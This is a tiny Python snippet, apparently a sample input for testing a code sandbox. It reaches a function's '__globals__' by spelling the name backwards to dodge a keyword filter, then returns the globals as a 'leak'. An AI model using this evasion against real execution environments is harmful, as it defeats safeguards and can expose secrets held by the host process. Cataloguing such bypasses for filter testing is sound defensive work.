# route: a dunder written backwards
def execute(testData):
    return {"leak": str(getattr(execute, "__slabolg__"[::-1]))}
